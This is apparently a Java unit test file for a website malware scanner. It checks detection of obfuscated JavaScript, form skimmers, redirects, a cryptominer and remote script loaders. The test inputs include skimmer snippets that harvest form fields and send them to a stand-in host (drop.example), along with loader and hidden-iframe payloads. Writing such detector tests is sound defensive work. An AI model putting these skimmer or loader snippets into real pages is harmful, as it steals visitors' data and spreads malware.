package jp.mamori.checks.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class ScriptScannerTest {
  static final URI PAGE = URI.create("https://www.example.co.jp/contact/");
  final ScriptScanner scanner = new ScriptScanner(WebRules.get());

  List<String> checks(String js) {
    return scanner.scan(js, PAGE).observations().stream().map(Observation::check).toList();
  }

  List<String> fileChecks(String js) {
    return scanner.scan(js, PAGE, true).observations().stream().map(Observation::check).toList();
  }

  static String b64(String s) {
    return Base64.getEncoder().encodeToString(s.getBytes());
  }

  @Test
  void obfuscationSignals() {
    assertThat(scanner.obfuscation("eval(atob('YWxlcnQoMSk='))", false)).containsExactly("eval-decode");
    assertThat(scanner.obfuscation("x=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46)", false))
        .containsExactly("fromCharCode-chain");
    assertThat(scanner.obfuscation("document.write(unescape('%3Cscript%3E'))", false)).contains("unescape-document-write");
    assertThat(scanner.obfuscation("var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3;", false)).containsExactly("_0x-identifiers");
    assertThat(scanner.obfuscation("setTimeout(function(){window.location.href=atob('aHR0cHM6Ly94LmV4YW1wbGUv')},9)", true))
        .containsExactly("encoded-redirect");
    assertThat(scanner.obfuscation("var s='" + "\\x61".repeat(50) + "'", false)).containsExactly("hex-escaped-strings");
    assertThat(scanner.obfuscation("var s='" + "\\x61".repeat(50) + "'", true)).isEmpty();
    assertThat(scanner.obfuscation("eval(atob('" + "QUFB".repeat(100) + "'))", false)).contains("long-encoded-literal");
    // ordinary code: a nonce, a short base64 image, a JSON config
    assertThat(scanner.obfuscation("var wpcf7={\"nonce\":\"a1b2c3d4e5\"};var img='data:image/png;base64,iVBORw0KGgo=';"
        + "String.fromCharCode(code);", false)).isEmpty();
  }

  @Test
  void skimmersNeedHarvestingAndAnOffSiteDrop() {
    assertThat(checks("document.querySelector('form').onsubmit=function(){var d=[];document.querySelectorAll('input')"
        + ".forEach(function(i){d.push(i.value)});new Image().src='https://drop.example/g.gif?'+btoa(d.join());}"))
        .contains("web.skimmer");
    assertThat(checks("var u=atob('" + b64("https://drop.example/s.php") + "');$('form').submit(function(){"
        + "$.post(u,$(this).serialize());});")).contains("web.skimmer");
    // sending the form to the site itself, or only reading values, is normal
    assertThat(checks("form.addEventListener('submit',function(){fetch('/wp-admin/admin-ajax.php',"
        + "{method:'POST',body:new FormData(form)})});")).doesNotContain("web.skimmer");
    assertThat(checks("if(document.getElementById('email').value===''){alert('入力してください')}"))
        .doesNotContain("web.skimmer");
  }

  @Test
  void librariesWithLicenceUrlsAreNotSkimmers() {
    String lib = "/*! Library v1 | (c) Someone | https://github.com/someone/lib */!function(e){var t=new XMLHttpRequest;"
        + "e.fn.val=function(){return this[0].value};t.open('GET',e.url);JSON.stringify(e);"
        + "e.cookie='expires='+encodeURIComponent(e)}(window);";
    assertThat(checks(lib)).doesNotContain("web.skimmer");
    assertThat(fileChecks(lib)).isEmpty();
  }

  @Test
  void redirectsInScript() {
    assertThat(checks("window.location.href='https://casino.example/';")).containsExactly("web.redirect-offsite");
    assertThat(checks("if(document.referrer.indexOf('google')>=0){location.replace('https://casino.example/')}"))
        .containsExactly("web.redirect-search-referrer");
    assertThat(checks("location.href='/news/';")).isEmpty();
    assertThat(checks("btn.addEventListener('click',function(){window.location.href='https://shop.example/'})")).isEmpty();
    assertThat(checks("window.open('https://www.facebook.com/share')")).isEmpty();
  }

  @Test
  void minersAndLoaders() {
    assertThat(checks("var m=new CoinHive.Anonymous('k');m.start();")).contains("web.cryptominer");
    ScriptScanner.Result r = scanner.scan("var s=document.createElement('script');s.src='https://loader.example/x.js';"
        + "document.head.appendChild(s);", PAGE);
    assertThat(r.loads()).containsExactly(URI.create("https://loader.example/x.js"));
    assertThat(r.beacons()).isEmpty();
    ScriptScanner.Result frame = scanner.scan("document.write('<iframe src=\"https://gate.example/\" width=0 height=0>')",
        PAGE);
    assertThat(frame.iframeTags()).hasSize(1);
  }
}
